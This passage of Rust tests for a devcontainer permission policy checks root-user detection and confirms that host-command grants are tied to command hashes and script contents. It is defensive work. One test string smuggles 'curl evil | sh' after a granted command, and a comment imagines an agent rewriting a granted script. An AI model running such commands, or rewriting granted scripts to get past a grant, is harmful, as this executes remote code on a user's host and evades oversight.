        (true, false, None, None, Some(""), true),
        (true, false, None, None, Some("root"), true),
        (true, false, None, None, Some("0:0"), true),
        // a name with uid 0 in the image's passwd is a root image too
        (true, false, None, None, Some("admin"), true),
        // `reference` runs the image as written; `--allow root` gets root, as asked
        (false, false, None, None, None, false),
        (true, true, None, None, None, false),
        // a non-root image user is run as it is
        (true, false, None, None, Some("node"), false),
        (true, false, None, None, Some("1000"), false),
        // a user the configuration names, root included, is never replaced
        (true, false, Some("root"), None, None, false),
        (true, false, None, Some("root"), None, false),
        (true, false, None, Some("0"), None, false),
        (true, false, None, Some("node"), None, false),
        (true, false, Some("1000"), None, None, false),
        // empty spellings take no part in the merge
        (true, false, Some(""), Some(""), None, true),
    ];
    for &(hardened, granted, container, remote, image, want) in cases {
        assert_eq!(
            provides_user(hardened, granted, container, remote, image, Some(passwd)),
            want,
            "{hardened} {granted} {container:?} {remote:?} {image:?}"
        );
    }
    // Without a passwd, a name is not known to be root: the run judges it (spec-note 0420).
    assert!(!provides_user(true, false, None, None, Some("admin"), None));
    assert!(provides_user(true, false, None, None, Some("root"), None));
}

/// A host-command grant bound to the command's hash grants that command only: the same
/// configuration with the command changed (by the repository, or an agent that wrote it) is
/// refused again, and the refusal names the new command's own grant (issue 25).
#[test]
fn a_host_command_grant_is_bound_to_the_hash_of_the_command_it_granted() {
    use crate::security::permissions::host_command_digest;
    let ask = |argv: &str| {
        judge(
            &hardened(),
            vec![(
                Permission::HostCommand(argv.into()),
                Source::DevcontainerJson,
            )],
            &Grants::default(),
        )
    };
    let first = ask("/bin/sh -c 'make setup'");
    let grant = first[0].permission.grant_flag().unwrap();
    assert_eq!(
        grant,
        format!(
            "--allow host-command:sha256:{}",
            host_command_digest("/bin/sh -c 'make setup'")
        )
    );
    let bound = Grants::parse(&[grant.trim_start_matches("--allow ")]).unwrap();
    let granted = |argv: &str| bound.allows(&Permission::HostCommand(argv.into()));
    assert!(granted("/bin/sh -c 'make setup'"));
    assert!(!granted("/bin/sh -c 'make setup; curl evil | sh'"));
    assert!(!granted("/bin/sh -c 'make setup' "));
    let changed = ask("/bin/sh -c 'make setup; curl evil | sh'");
    assert_ne!(changed[0].permission.grant_flag(), Some(grant.clone()));
    // the hex may be written in capitals; anything else is not a grant
    let upper = format!(
        "host-command:sha256:{}",
        host_command_digest("x").to_uppercase()
    );
    assert!(
        Grants::parse(&[upper])
            .unwrap()
            .allows(&Permission::HostCommand("x".into()))
    );
    for bad in [
        "host-command:",
        "host-command:sha256:",
        "host-command:sha256:abc",
        "host-command:md5:00",
    ] {
        assert!(Grants::parse(&[bad]).is_err(), "{bad}");
    }
    // the command line's bare grant is one run's decision: every command of it
    assert!(
        Grants::parse(&["host-command"])
            .unwrap()
            .allows(&Permission::HostCommand("y".into()))
    );
}

/// A standing host-command grant covers what runs, not only how it is spelt: when the
/// command runs a workspace script, the grant binds the script's content, so an agent (or a
/// `git pull`) that rewrites the script is asked again; the request names the file it covers;
/// a grant made for the text alone (before grants covered files) is asked again with the
/// reason; a command with no workspace file keeps its text-only grant (attacks J7).
#[test]
fn a_host_command_grant_is_asked_again_when_its_script_changes() {
    use crate::security::permissions::{CoveredFile, HostCommand, host_command_digest};
    use sha2::{Digest as _, Sha256};
    // What `security::host_command::cover_command` makes of the command (its own tests read
    // the words and the files; the policy cannot import it): every regular file the words
    // name under `ws`, with its content's digest; a folder is not coverable.
    let cover_command = |text: String, argv: &[String], _cwd: &Path, ws: &Path| {
        let mut command = HostCommand::from(text);
        for word in argv.iter().flat_map(|a| a.split_whitespace()) {
            let path = ws.join(word.trim_start_matches('/'));
            if path.is_file() {
                command.files.push(CoveredFile {
                    path: word.to_string(),
                    sha256: hex::encode(Sha256::digest(std::fs::read(&path).unwrap())),
                });
            } else if path.is_dir() {
                command.uncovered.push(format!("`{word}` (a folder)"));
            }
        }
        command
    };
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join(".devcontainer")).unwrap();
    let script = ws.join(".devcontainer/init.sh");
    std::fs::write(&script, "echo benign\n").unwrap();
    let line = "sh .devcontainer/init.sh";
    let argv = ["/bin/sh".to_string(), "-c".into(), line.into()];
    let text = "/bin/sh -c 'sh .devcontainer/init.sh'";
    let ask = |grants: &Grants| {
        let command = cover_command(text.into(), &argv, &ws, &ws);
        judge(
            &hardened(),
            vec![(Permission::HostCommand(command), Source::DevcontainerJson)],
            grants,
        )
        .remove(0)
    };
    let first = ask(&Grants::default());
    assert_eq!(first.status, RequestStatus::Refused);
    let shown = first.to_string();
    assert!(
        shown.contains("a grant covers the command and `.devcontainer/init.sh` (sha256 "),
        "{shown}"
    );
    let flag = first.permission.grant_flag().unwrap();
    let bound = Grants::parse(&[flag.trim_start_matches("--allow ")]).unwrap();
    assert_eq!(ask(&bound).status, RequestStatus::Granted);
    let json = serde_json::to_value(&first).unwrap();
    assert_eq!(json["covers"][0]["path"], ".devcontainer/init.sh", "{json}");

    // the agent rewrites the script: the same standing grant no longer covers it
    std::fs::write(&script, "echo AGENT CODE ON THE HOST\n").unwrap();
    let again = ask(&bound);
    assert_eq!(again.status, RequestStatus::Refused);
    assert_ne!(again.permission.grant_flag(), Some(flag.clone()));
    // the script removed: the command names no file now, and is asked again too
    std::fs::remove_file(&script).unwrap();
    assert_eq!(ask(&bound).status, RequestStatus::Refused);

    // a grant of the text alone (as every grant was made before) is asked again, saying why
    std::fs::write(&script, "echo benign\n").unwrap();
    let old =
        Grants::parse(&[format!("host-command:sha256:{}", host_command_digest(text))]).unwrap();
    let stale = ask(&old);
    assert_eq!(stale.status, RequestStatus::Refused);
    assert!(
        stale.to_string().contains("covers the command's text only"),
        "{stale}"
    );
    // ... while a command that names no workspace file keeps its text-only grant
    let plain = cover_command("true".into(), &["true".to_string()], &ws, &ws);
    assert_eq!(plain.digest(), Some(host_command_digest("true")));

    // a folder of the workspace cannot be pinned: no standing grant, one run only
    std::fs::create_dir_all(ws.join("tools")).unwrap();
    let folder = cover_command(
        "/bin/sh -c 'cd tools && make'".into(),
        &[
            "/bin/sh".to_string(),
            "-c".into(),
            "cd tools && make".into(),
        ],
        &ws,
        &ws,
    );
    let request = judge(
        &hardened(),
        vec![(Permission::HostCommand(folder), Source::DevcontainerJson)],
        &Grants::default(),
    )
    .remove(0);
    assert_eq!(
        request.permission.grant_flag().as_deref(),
        Some("--allow host-command")
    );
    assert!(request.to_string().contains("one run only"), "{request}");
}
